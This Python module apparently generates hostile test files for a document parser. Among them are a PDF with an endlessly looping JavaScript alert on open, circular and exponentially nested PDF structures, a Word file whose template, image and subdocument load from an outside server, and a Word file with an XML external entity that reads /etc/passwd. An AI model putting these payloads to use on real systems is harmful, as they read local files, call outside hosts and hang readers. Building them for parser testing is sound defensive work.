"""Files that mean no good, each made by hand in a few lines and small on disk."""

from __future__ import annotations

import io
import random
import re
import zipfile
import zlib

_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
WORDS = "The vendor shall not train on customer data."
HELLO = f"BT /F1 11 Tf 72 700 Td ({WORDS}) Tj ET\n".encode()


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object, packed."""
    packed = zlib.compress(data, 9)
    return f"<< {entries} /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode() + packed + b"\nendstream"


def pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body if isinstance(body, bytes) else body.encode())
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def page(content: bytes, *more: bytes, pages: int = 1, drawn: str = "", catalog: str = _CATALOG) -> bytes:
    """One page of this content (its objects go on at number 6), shown ``pages`` times over."""
    resources = f"<< /Font << /F1 3 0 R >> /XObject << {drawn} >> >>"
    leaf = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources {resources} /Contents 5 0 R >>"
    tree = f"<< /Type /Pages /Kids [{'4 0 R ' * pages}] /Count {pages} >>"
    return pdf(catalog, tree, _FONT, leaf, stream(content), *more)


def scan() -> bytes:
    """A page that is one grey picture."""
    picture = "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return page(b"q 612 0 0 792 0 0 cm /I1 Do Q", stream(b"\x80", picture), drawn="/I1 6 0 R")


def encrypted() -> bytes:
    """A PDF whose password nobody knows."""
    standard = f"<< /Filter /Standard /V 1 /R 2 /O <{'00' * 32}> /U <{'00' * 32}> /P -4 >>"
    tree, leaf = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return pdf(_CATALOG, tree, leaf, trailer=f"/Encrypt {standard} /ID [<00> <00>]")


def with_script() -> bytes:
    """A page that would run a script without end on opening."""
    action = "/OpenAction << /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\)}) >>"
    return page(HELLO, catalog=f"<< /Type /Catalog /Pages 2 0 R {action} >>")


def deep_tree(depth: int) -> bytes:
    """A page below ``depth`` folders of pages."""
    folders = [f"<< /Type /Pages /Kids [{number + 3} 0 R] /Count 1 >>" for number in range(depth)]
    leaf = f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 612 792] /Contents {depth + 3} 0 R >>"
    return pdf(_CATALOG, *folders, leaf, stream(HELLO))


def circular_tree() -> bytes:
    """A folder of pages that holds itself, twice."""
    return pdf(_CATALOG, "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>")


def forms(depth: int) -> bytes:
    """A page whose form draws the next form twice, ``depth`` deep: 2 to that power drawings."""
    kind = "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
    chain = [
        stream(b"/F Do /F Do", f"{kind} /Resources << /XObject << /F {7 + index} 0 R >> >>") for index in range(depth)
    ]
    return page(HELLO + b"/F Do", *chain, stream(b"n", kind), drawn="/F 6 0 R")


def docx(body: str = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>", prolog: str = "", **parts: str | bytes) -> bytes:
    """A Word file of this body; ``parts`` are further members by their names."""
    types = f'<Types xmlns="{_PACKAGE}/content-types"/>'
    main = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
    members = {
        "[Content_Types].xml": types,
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{main}</Relationships>',
        "word/document.xml": f"{prolog}<w:document {_WORD}><w:body>{body}</w:body></w:document>",
        **parts,
    }
    return archive(members)


def archive(members: dict[str, str | bytes]) -> bytes:
    """A packed ZIP archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return out.getvalue()


def with_remote_template() -> bytes:
    """A Word file whose template and picture lie on somebody's server."""
    far = [
        f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="http://192.0.2.1/{kind}" TargetMode="External"/>'
        for number, kind in enumerate(("attachedTemplate", "image", "subDocument"))
    ]
    relations = f'<Relationships xmlns="{_PACKAGE}/relationships">{"".join(far)}</Relationships>'
    return docx(**{"word/_rels/document.xml.rels": relations})


def with_entity() -> bytes:
    """A Word file that asks for a file of this machine."""
    return docx("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')


def repeated_xml(megabytes: int) -> bytes:
    """A Word file of one paragraph over and over."""
    one = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"
    return docx(one * (megabytes * 1_000_000 // len(one)))


def damaged(data: bytes, seed: int) -> bytes:
    """The same file with one thing wrong: cut short, bits flipped, or a packed part torn inside."""
    chance = random.Random(seed)  # noqa: S311 - the same damage on every run
    if seed % 3 == 0:
        return data[: chance.randrange(len(data))]
    if seed % 3 == 1:
        return _torn(data, 1 + seed % 20, chance)
    if data.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            members = {name: package.read(name) for name in package.namelist()}
        members["word/document.xml"] = _torn(members["word/document.xml"], 4, chance)
        return archive(members)
    starts = [found.end() for found in re.finditer(rb"/FlateDecode[^>]*>>\s*stream\r?\n", data)]
    start = chance.choice(starts)
    end = data.find(b"endstream", start)
    content = zlib.decompressobj().decompress(data[start:end])
    return data[:start] + zlib.compress(_torn(content, 40, chance)) + b"\n" + data[end:]


def _torn(data: bytes, times: int, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(times):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)
